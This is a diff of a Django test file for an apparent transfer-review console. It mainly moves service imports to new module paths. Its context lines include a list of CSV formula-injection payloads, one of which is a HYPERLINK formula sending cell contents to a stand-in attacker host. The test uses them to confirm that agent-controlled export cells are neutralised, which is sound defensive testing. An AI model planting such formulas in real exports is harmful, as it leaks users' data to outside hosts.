@@ -16,9 +16,10 @@ from django.test import Client
 from django.utils import timezone
 from review_support import person, signed_in, use_demo_bank
 
-from console import models, review_services
+from console import models
 from console.demo import review_data
-from console.records import record_body_digest
+from console.services.review import execution_reject
+from console.storage import record_body_digest
 from console.web.review_rows import when_text
 
 pytestmark = pytest.mark.django_db
@@ -31,7 +32,7 @@ def history(db: None, monkeypatch: pytest.MonkeyPatch) -> list[models.Execution]
     use_demo_bank(monkeypatch)
     alice = review_data.held_transfer()
     bob = review_data.held_transfer(principal="user:bob", amount=20)
-    review_services.execution_reject(execution_id=bob.pk, reason="no", reviewer=person("carol", "approver"))
+    execution_reject(execution_id=bob.pk, reason="no", reviewer=person("carol", "approver"))
     return [alice, bob]
 
 
@@ -188,13 +189,13 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "
 def test_every_export_cell_an_agent_controls_is_neutralised(
     auditor: Client, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from console import services
     from console.demo.review_data import transfer_request
+    from console.services.executions import execution_create
 
     use_demo_bank(monkeypatch)
     # The principal is the agent's text in the export; server and tool must name an imported tool.
     for formula in FORMULAS:
-        services.execution_create(body=transfer_request(principal=formula), token=None, actor="agent:test")
+        execution_create(body=transfer_request(principal=formula), token=None, actor="agent:test")
 
     response = auditor.get("/audit/export.csv")
 
